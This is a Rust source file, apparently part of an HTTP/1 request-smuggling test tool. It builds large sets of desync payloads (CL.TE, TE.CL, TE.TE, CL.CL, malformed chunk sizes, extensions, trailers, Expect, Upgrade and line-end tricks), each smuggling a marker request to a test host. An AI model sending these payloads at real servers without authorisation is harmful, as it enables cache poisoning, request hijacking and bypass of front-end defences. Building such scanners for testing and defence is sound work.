//! Payloads of HTTP/1. Each is the bytes of one connection and ends with an innocent request, whose response ends the wait.

use super::{MARK, Payload, Payloads};

/// A request that a backend would see if a body ended early.
const SMUGGLED: &str = "GET /p00000/smuggled HTTP/1.1\r\nHost: a.test\r\nX: ";

/// All payloads.
pub(super) fn all() -> Vec<Payload> {
    let mut payloads = Payloads::default();
    length_and_coding(&mut payloads);
    two_codings(&mut payloads);
    two_lengths(&mut payloads);
    length_of_bodiless(&mut payloads);
    bytes_around_names(&mut payloads);
    chunk_sizes(&mut payloads);
    chunk_ends(&mut payloads);
    extensions(&mut payloads);
    trailers(&mut payloads);
    expectations(&mut payloads);
    upgrades(&mut payloads);
    http10(&mut payloads);
    lines(&mut payloads);
    targets(&mut payloads);
    hops(&mut payloads);
    payloads.0
}

fn innocent() -> String {
    format!("GET {MARK}last HTTP/1.1\r\nHost: a.test\r\nConnection: close\r\n\r\n")
}

/// A POST with these field lines and this body, followed by the innocent request.
fn post(fields: &str, body: &str) -> Vec<u8> {
    request("POST", "HTTP/1.1", fields, body)
}

fn request(method: &str, version: &str, fields: &str, body: &str) -> Vec<u8> {
    let last = innocent();
    latin1(&format!("{method} {MARK}a {version}\r\nHost: a.test\r\n{fields}\r\n\r\n{body}{last}"))
}

/// Every character is one byte.
fn latin1(text: &str) -> Vec<u8> {
    text.chars().map(|c| u8::try_from(u32::from(c)).unwrap()).collect()
}

/// Field lines that some servers accept as `Transfer-Encoding: chunked`.
fn codings() -> Vec<String> {
    let values = [
        "chunked",
        "Chunked",
        "CHUNKED",
        " chunked",
        "\tchunked",
        "chunked ",
        "chunked\t",
        "\u{b}chunked",
        "chunked\u{b}",
        "\u{c}chunked",
        "chunked\u{c}",
        "\u{a0}chunked",
        "chunked\u{85}",
        "chunked\0",
        "\0chunked",
        "xchunked",
        "chunkedx",
        "chunk",
        "chun ked",
        "chunked;",
        "chunked;q=1",
        "chunked, identity",
        "identity, chunked",
        "identity",
        "chunked,",
        ",chunked",
        "chunked, chunked",
        "gzip, chunked",
        "chunked, gzip",
        "cow",
        "cow, chunked",
        "\"chunked\"",
        "'chunked'",
        "{chunked}",
        "chunked\r\n ",
        "\r\n chunked",
        "\r\n\tchunked",
        "x\r\n chunked",
        "chunked\r\n x",
        "\rchunked",
        "chunked\r",
        "\nchunked",
        "chunked\n",
        "=chunked",
        ": chunked",
        "chunked:",
        "chunked;chunked",
        "chunked chunked",
        "x chunked",
        "chunked x",
        "",
        "\u{ff}chunked",
        "chunked\u{7f}",
        "chu\u{6e}ked#",
        "1chunked",
        "-chunked",
    ];
    let names = [
        "Transfer-Encoding :",
        "Transfer-Encoding\t:",
        "Transfer-Encoding\u{b}:",
        "Transfer-Encoding\0:",
        " Transfer-Encoding:",
        "\tTransfer-Encoding:",
        "Transfer_Encoding:",
        "Transfer Encoding:",
        "TransferEncoding:",
        "Transfer.Encoding:",
        "transfer-encoding:",
        "tRANSFER-eNCODING:",
        "X: y\nTransfer-Encoding:",
        "X: y\rTransfer-Encoding:",
        "X: y\r\n Transfer-Encoding:",
        "X:\r\nTransfer-Encoding:",
        "Transfer-Encoding\r\n:",
        "\u{ff}Transfer-Encoding:",
        "Transfer-Encoding\u{a0}:",
        "\"Transfer-Encoding\":",
        "Transfer-Encoding;:",
        "Transfer-Encoding",
        "Transfer-\nEncoding:",
        "Content-Encoding:",
        "TE:",
        "X-Transfer-Encoding:",
        "Transfer-Encodin\u{67}\u{8}:",
    ];
    let values = values.iter().map(|value| format!("Transfer-Encoding: {value}"));
    values.chain(names.iter().map(|name| format!("{name} chunked"))).collect()
}

/// Values that some servers accept as the length `number`.
fn lengths(number: usize) -> Vec<String> {
    let text = number.to_string();
    [
        "N",
        "+N",
        "-N",
        "0N",
        "00000000000000000000N",
        " N",
        "\tN",
        "N ",
        "N\t",
        "\u{b}N",
        "N\u{c}",
        "N\0",
        "\0N",
        "Na",
        "N,",
        ",N",
        "N, N",
        "N,0",
        "0,N",
        "N;",
        "N.0",
        "Ne0",
        "0xN",
        "0oN",
        "N 0",
        "N\r\n ",
        "\r\n N",
        "N\r\n 0",
        "\"N\"",
        "1_N",
        "N\n",
        "N\r",
        "",
        "\u{a0}N",
        "\u{b2}",
        "18446744073709551616",
        "-1",
        "99999999999999999999999999",
    ]
    .iter()
    .map(|form| form.replace('N', &text))
    .collect()
}

/// CL.TE and TE.CL: one reader ends the body by its length, the other by its chunks.
fn length_and_coding(payloads: &mut Payloads) {
    for coding in codings() {
        let early = format!("0\r\n\r\n{SMUGGLED}");
        let all = early.len();
        payloads.add("CL.TE", post(&format!("Content-Length: {all}\r\n{coding}"), &early));
        payloads.add("CL.TE", post(&format!("{coding}\r\nContent-Length: {all}"), &early));
        let chunk = format!("{:x}\r\n{SMUGGLED}\r\n0\r\n\r\n", SMUGGLED.len());
        let first_line = chunk.find('\n').unwrap() + 1;
        payloads.add("TE.CL", post(&format!("{coding}\r\nContent-Length: {first_line}"), &chunk));
        payloads.add("TE.CL", post(&format!("Content-Length: {first_line}\r\n{coding}"), &chunk));
        payloads.add("TE alone", post(&coding, &chunk));
        payloads.add("TE.0", post(&format!("{coding}\r\nContent-Length: 0"), &chunk));
    }
}

/// TE.TE: one of two codings is hidden from one reader.
fn two_codings(payloads: &mut Payloads) {
    for coding in codings() {
        let body = format!("0\r\n\r\n{SMUGGLED}");
        for fields in [
            format!("Transfer-Encoding: chunked\r\n{coding}"),
            format!("{coding}\r\nTransfer-Encoding: identity"),
        ] {
            payloads.add("TE.TE", post(&fields, &body));
        }
    }
}

/// CL.CL: two lengths, or one that is parsed as two.
fn two_lengths(payloads: &mut Payloads) {
    let body = format!("abc{SMUGGLED}");
    for long in lengths(body.len()) {
        payloads.add("CL.CL", post(&format!("Content-Length: 3\r\nContent-Length: {long}"), &body));
        payloads.add("CL.CL", post(&format!("Content-Length: {long}\r\nContent-Length: 3"), &body));
        payloads.add("CL.CL", post(&format!("Content-Length: {long}"), &body));
        payloads.add("CL.CL", post(&format!("Content-Length: {long}\r\nX: y\r\ncontent-length: 0"), &body));
    }
}

/// 0.CL: a length where one reader expects no body.
fn length_of_bodiless(payloads: &mut Payloads) {
    for method in ["GET", "HEAD", "OPTIONS", "DELETE"] {
        for length in lengths(SMUGGLED.len()) {
            payloads.add("0.CL", request(method, "HTTP/1.1", &format!("Content-Length: {length}"), SMUGGLED));
        }
        for coding in codings().iter().take(12) {
            let body = format!("0\r\n\r\n{SMUGGLED}");
            payloads.add("0.TE", request(method, "HTTP/1.1", coding, &body));
        }
    }
}

/// Every byte that is not a letter or digit, around the names and values of the framing fields.
fn bytes_around_names(payloads: &mut Payloads) {
    let body = format!("0\r\n\r\n{SMUGGLED}");
    let is_odd = |byte: &u8| !byte.is_ascii_alphanumeric() && (*byte < 0x90 || *byte >= 0xf8);
    for byte in (0..=255u8).filter(is_odd).map(char::from) {
        for field in [
            format!("{byte}Transfer-Encoding: chunked"),
            format!("Transfer-Encoding{byte}: chunked"),
            format!("Transfer-Encoding:{byte}chunked"),
            format!("Transfer-Encoding: chunked{byte}"),
            format!("Content-Length{byte}: 5"),
            format!("Content-Length: 5{byte}"),
            format!("X: y{byte}Content-Length: 5"),
        ] {
            payloads.add("byte sweep", post(&field, &body));
        }
    }
}

fn chunked(body: &str) -> Vec<u8> {
    post("Transfer-Encoding: chunked", body)
}

/// Sizes that one reader parses as another number.
fn chunk_sizes(payloads: &mut Payloads) {
    let length = format!("{:x}", SMUGGLED.len());
    for form in [
        "N",
        "0N",
        "0000000000N",
        "00000000000000000000N",
        "+N",
        "-N",
        "0xN",
        "0XN",
        "N ",
        " N",
        "\tN",
        "N\t",
        "N\u{b}",
        "\u{b}N",
        "N\0",
        "Nh",
        "N_",
        "N.",
        "N,",
        "N x",
        "N\u{a0}",
        "\u{a0}N",
        "\"N\"",
        "1 N",
        "0 N",
        "10000000000000000N",
        "100000000N",
        "ffffffffffffffff",
        "-1",
        "N;",
        "N ;",
        "N;x",
        "N\n",
        "N\r",
        "N\r\r",
        "\r\nN",
        "\nN",
        "",
        ";",
        " ",
        "0;N",
        "g",
        "0N;0",
        "8000000000000000",
        "7fffffffffffffff",
        "fffffffffffffff0",
        "1_N",
        "N;\0",
        "N=1",
        "N#",
        "%30N",
        "N/0",
        "(N)",
        "N\u{7f}",
    ] {
        let size = form.replace('N', &length);
        payloads.add("chunk size", chunked(&format!("{size}\r\n{SMUGGLED}\r\n0\r\n\r\n")));
        payloads.add("chunk size", chunked(&format!("1\r\na\r\n{size}\r\n{SMUGGLED}\r\n0\r\n\r\n")));
        let zero = form.replace('N', "0");
        payloads.add("last chunk", chunked(&format!("{zero}\r\n\r\n{SMUGGLED}")));
        payloads.add("last chunk", chunked(&format!("3\r\nabc\r\n{zero}\r\n\r\n{SMUGGLED}")));
    }
}

/// Line and data ends in chunks.
fn chunk_ends(payloads: &mut Payloads) {
    let ends =
        ["\r\n", "\n", "\r", "\r\r\n", "\n\r", "", "x\r\n", "\r\nx", "\0\r\n", " \r\n", "\r\n\r\n", "\n\n"];
    for end in ends {
        payloads.add("chunk end", chunked(&format!("3{end}abc\r\n0\r\n\r\n{SMUGGLED}")));
        payloads.add("chunk end", chunked(&format!("3\r\nabc{end}0\r\n\r\n{SMUGGLED}")));
        payloads.add("chunk end", chunked(&format!("3\r\nabc\r\n0{end}\r\n{SMUGGLED}")));
        payloads.add("chunk end", chunked(&format!("3\r\nabc\r\n0\r\n{end}{SMUGGLED}")));
        payloads.add("chunk end", chunked(&format!("2\r\nab{end}5\r\nhello\r\n0\r\n\r\n{SMUGGLED}")));
    }
}

/// TERM.EXT and EXT.TERM: a line end inside an extension that one reader ignores.
fn extensions(payloads: &mut Payloads) {
    for extension in [
        ";",
        ";;",
        ";a",
        ";a=b",
        "; a=b",
        ";a = b",
        ";a=\"b\"",
        ";a=\"b",
        ";a=\"\\\"\"",
        ";a=\"\r\n\"",
        ";a=\"\n\"",
        ";\n",
        ";\nx",
        ";x\n",
        ";\r",
        ";x\ry",
        ";\r\r",
        ";\0",
        ";\u{1}",
        ";\u{7f}",
        ";\u{ff}",
        ";a=b;c=d",
        ";=",
        ";=b",
        ";a=",
        ";/",
        ";:",
        "; ;",
        ";\t",
        ";\u{b}",
        ";0\r\n\r\n",
        " ;a",
        "\t;a",
        ";ffff",
        ";\"",
    ] {
        payloads.add("extension", chunked(&format!("3{extension}\r\nabc\r\n0\r\n\r\n{SMUGGLED}")));
        payloads.add("extension", chunked(&format!("0{extension}\r\n\r\n{SMUGGLED}")));
        payloads.add("extension", chunked(&format!("2{extension}xx\r\n4c\r\n0\r\n\r\n{SMUGGLED}")));
    }
}

/// Trailers that one reader takes for fields of the head, or for a request.
fn trailers(payloads: &mut Payloads) {
    for trailer in [
        "X: y",
        "Content-Length: 5",
        "Transfer-Encoding: chunked",
        "Transfer-Encoding: identity",
        "Host: b.test",
        "Connection: close",
        "Connection: keep-alive",
        "X : y",
        "X\t: y",
        " X: y",
        "X",
        ": y",
        "X: y\n",
        "X: y\nContent-Length: 5",
        "X: y\rZ: 1",
        "X: \0",
        "X: y\r\n z",
        "GET /p00000/smuggled HTTP/1.1",
        "GET /p00000/smuggled HTTP/1.1\r\nHost: a.test",
        "X: y\r\nContent-Length: 5",
        "X_Y: z",
        "Expect: 100-continue",
        "Upgrade: websocket",
        "content-length:5",
        "Content_Length: 5",
        "X: y\n\nGET /p00000/smuggled HTTP/1.1\nHost: a.test",
    ] {
        payloads.add("trailer", chunked(&format!("3\r\nabc\r\n0\r\n{trailer}\r\n\r\n{SMUGGLED}")));
        payloads.add(
            "trailer",
            post("Transfer-Encoding: chunked\r\nTrailer: Content-Length", &format!("0\r\n{trailer}\r\n\r\n")),
        );
    }
}

/// An expectation that only one reader responds to.
fn expectations(payloads: &mut Payloads) {
    for expectation in [
        "100-continue",
        "100-Continue",
        "100-continue ",
        "100-continue, 100-continue",
        "100-continue,",
        ", 100-continue",
        "100-continue;x",
        "x 100-continue",
        "y 100-continue",
        "100",
        "",
        "\t100-continue",
        "\u{b}100-continue",
        "100-continue\0",
        "\r\n 100-continue",
        "100-continued",
        "200-ok",
    ] {
        for (length, method) in
            [(SMUGGLED.len(), "POST"), (0, "POST"), (SMUGGLED.len(), "GET"), (3, "OPTIONS")]
        {
            let fields = format!("Expect: {expectation}\r\nContent-Length: {length}");
            payloads.add("Expect", request(method, "HTTP/1.1", &fields, SMUGGLED));
        }
        let fields = format!("Expect: {expectation}\r\nTransfer-Encoding: chunked");
        payloads.add("Expect", post(&fields, &format!("0\r\n\r\n{SMUGGLED}")));
    }
}

/// An upgrade that only one reader considers complete.
fn upgrades(payloads: &mut Payloads) {
    let key = "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==";
    for protocol in [
        "websocket",
        "WebSocket",
        "h2c",
        "TLS/1.0",
        "HTTP/2.0",
        "websocket, h2c",
        "h2c, websocket",
        "x",
        "",
        "websocket\0",
        "\r\n websocket",
        "connect-udp",
    ] {
        for version in ["13", "8", "13, 8", ""] {
            let upgrade = format!(
                "Connection: Upgrade\r\nUpgrade: {protocol}\r\n{key}\r\nSec-WebSocket-Version: {version}"
            );
            payloads.add("Upgrade", request("GET", "HTTP/1.1", &upgrade, ""));
            payloads.add(
                "Upgrade",
                request(
                    "GET",
                    "HTTP/1.1",
                    &format!("{upgrade}\r\nContent-Length: {}", SMUGGLED.len()),
                    SMUGGLED,
                ),
            );
            payloads.add(
                "Upgrade",
                request(
                    "GET",
                    "HTTP/1.1",
                    &format!("{upgrade}\r\nTransfer-Encoding: chunked"),
                    &format!("0\r\n\r\n{SMUGGLED}"),
                ),
            );
            payloads.add(
                "Upgrade",
                request(
                    "POST",
                    "HTTP/1.1",
                    &format!("{upgrade}\r\nContent-Length: 3"),
                    &format!("abc{SMUGGLED}"),
                ),
            );
        }
    }
}

/// Versions for which one reader does not support chunks or a second request.
fn http10(payloads: &mut Payloads) {
    let body = format!("0\r\n\r\n{SMUGGLED}");
    for version in [
        "HTTP/1.0",
        "HTTP/0.9",
        "HTTP/1.2",
        "HTTP/1",
        "http/1.1",
        "HTTP/01.1",
        "HTTP/1.10",
        "HTTP/2.0",
        "HTTP/1.1 ",
        "HTTP/1.0\t",
        "HTTP/1.0\0",
        "",
    ] {
        for fields in [
            "Transfer-Encoding: chunked".to_owned(),
            "Transfer-Encoding: chunked\r\nConnection: keep-alive".to_owned(),
            format!("Content-Length: {}", body.len()),
            format!("Content-Length: {}\r\nConnection: keep-alive", body.len()),
            format!("Content-Length: {}\r\nTransfer-Encoding: chunked", body.len()),
            "Content-Length: 5\r\nConnection: keep-alive".to_owned(),
        ] {
            payloads.add("HTTP/1.0", request("POST", version, &fields, &body));
        }
    }
}

/// Line ends that one reader ignores.
fn lines(payloads: &mut Payloads) {
    let ends = [
        "\n", "\r", "\r\r\n", "\n\r", "\r\n ", "\r\n\t", "\u{b}", "\u{c}", "\u{85}", "\0", "\r\0\n", " \r\n",
        "\\r\\n", "%0d%0a",
    ];
    for end in ends {
        for field in ["Content-Length: 5", "Transfer-Encoding: chunked", "Host: b.test"] {
            payloads.add("line end", post(&format!("X: y{end}{field}"), &format!("0\r\n\r\n{SMUGGLED}")));
            payloads.add("line end", post(&format!("{field}{end}X: y"), &format!("0\r\n\r\n{SMUGGLED}")));
        }
        let last = innocent();
        payloads.add("line end", latin1(&format!("GET {MARK}a HTTP/1.1{end}Host: a.test\r\n\r\n{last}")));
        payloads.add(
            "line end",
            latin1(&format!("GET {MARK}a HTTP/1.1\r\nHost: a.test{end}{end}{SMUGGLED}\r\n\r\n{last}")),
        );
        payloads.add(
            "line end",
            latin1(&format!("GET {MARK}a HTTP/1.1\r\nHost: a.test\r\nX: y\r\n{end}{SMUGGLED}\r\n\r\n{last}")),
        );
    }
}

/// Targets and methods that create a second request line.
fn targets(payloads: &mut Payloads) {
    let last = innocent();
    for part in [
        "\r\n", "\n", "\r", " ", "\t", "\u{b}", "\u{c}", "\0", "\u{85}", "\u{a0}", "%0d%0a", "%20", "%0a",
        "%00", "\u{ff}",
    ] {
        for line in [
            format!("GET {MARK}a{part}HTTP/1.1"),
            format!("GET {MARK}a{part}b HTTP/1.1"),
            format!("GET{part}{MARK}a HTTP/1.1"),
            format!("GET {MARK}a HTTP/1.1{part}X: y"),
            format!("GET {MARK}a?x={part}HTTP/1.1%0d%0aHost: b.test HTTP/1.1"),
            format!("{part}GET {MARK}a HTTP/1.1"),
            format!("GET http://a.test{part}{MARK}a HTTP/1.1"),
        ] {
            payloads.add("request line", latin1(&format!("{line}\r\nHost: a.test\r\n\r\n{last}")));
        }
    }
}

/// Fields that `Connection` names.
fn hops(payloads: &mut Payloads) {
    let body = format!("abc{SMUGGLED}");
    for named in [
        "Content-Length",
        "Transfer-Encoding",
        "Host",
        "content-length, close",
        "keep-alive, Content-Length",
        "Expect",
        "Upgrade",
        "Connection",
    ] {
        payloads.add(
            "Connection",
            post(&format!("Connection: {named}\r\nContent-Length: {}", body.len()), &body),
        );
        payloads.add(
            "Connection",
            post(&format!("Content-Length: {}\r\nConnection: {named}", body.len()), &body),
        );
        payloads.add(
            "Connection",
            post(&format!("Connection: {named}\r\nTransfer-Encoding: chunked"), "3\r\nabc\r\n0\r\n\r\n"),
        );
        payloads.add(
            "Connection",
            request("GET", "HTTP/1.1", &format!("Connection: {named}\r\nContent-Length: 3"), "abc"),
        );
    }
}
